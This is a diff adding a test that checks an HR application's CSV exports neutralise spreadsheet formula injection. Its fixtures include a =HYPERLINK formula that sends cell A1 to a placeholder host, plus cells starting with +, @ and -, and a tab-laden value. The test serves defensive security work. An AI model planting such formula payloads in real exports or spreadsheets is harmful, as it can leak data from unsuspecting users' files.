@@ -744,4 +744,51 @@ describe('training, pathways and exits over HTTP (capabilities 5, 6, 8)', () => 
         .toString(),
     ).toBe('%PDF-');
   });
+
+  it('neutralises formulas in every CSV export: a quote before =, +, -, @, tab or CR, the cell quoted', async () => {
+    const formula = '=HYPERLINK("https://exemple.invalid/?x="&A1;"Voir")';
+    const person = await t.request<{ id: string }>('POST', '/api/people', {
+      cookie: hr,
+      body: {
+        firstName: '+33 1 23 45 67 89',
+        lastName: formula,
+        jobTitle: '@SOMME(A1:A9)',
+        email: 'formule.csv@relais.demo',
+        homeSiteId: (await one<{ id: string }>(`SELECT id FROM site WHERE code = 'S'`)).id,
+        role: 'mediator',
+      },
+    });
+    expect(person.status).toBe(201);
+    const contract = await one<{ id: string }>(
+      `SELECT c.id FROM contract c WHERE NOT EXISTS (SELECT 1 FROM exit_record x WHERE x.contract_id = c.id)
+         AND NOT EXISTS (SELECT 1 FROM contract n WHERE n.person_id = c.person_id AND n.id <> c.id)
+       ORDER BY c.start_date LIMIT 1`,
+    );
+    const exit = await t.request('POST', '/api/exits', {
+      cookie: hr,
+      body: {
+        contractId: contract.id,
+        exitDate: today,
+        category: 'EMPLOI_TRANSITION',
+        jobContractType: 'CDD',
+        durationBucket: 'UNDER_SIX_MONTHS',
+        employerSector: '-2+3\tcmd',
+      },
+    });
+    expect(exit.status).toBe(201);
+
+    const people = await t.request<string>('GET', '/api/exports/people.csv', { cookie: hr });
+    expect(people.status).toBe(200);
+    const quoted = `"'${formula.replaceAll('"', '""')}"`;
+    expect(people.body).toContain(`${quoted};"'+33 1 23 45 67 89";`);
+    expect(people.body).toContain(`;"'@SOMME(A1:A9)";`);
+    const exits = await t.request<string>('GET', '/api/exports/exits.csv', { cookie: hr });
+    expect(exits.status).toBe(200);
+    expect(exits.body).toContain(`;"'-2+3\tcmd";`);
+    // No cell of any CSV export starts with a formula character, quoted or not (numbers aside).
+    for (const csv of [people.body, exits.body])
+      expect(csv.split('\n').flatMap((line) => line.split(';'))).not.toContainEqual(
+        expect.stringMatching(/^(?!-?\d+(\.\d+)?$)"?[=+\-@\t\r]/),
+      );
+  });
 });
